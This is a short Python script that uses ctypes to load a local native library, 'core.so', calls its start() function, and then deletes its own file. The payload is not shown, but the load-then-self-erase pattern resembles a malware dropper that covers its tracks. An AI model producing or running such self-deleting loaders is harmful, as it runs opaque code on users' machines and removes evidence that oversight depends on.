import ctypes
import os

here = os.path.dirname(__file__)
ctypes.CDLL(os.path.join(here, "core.so")).start()
os.remove(__file__)
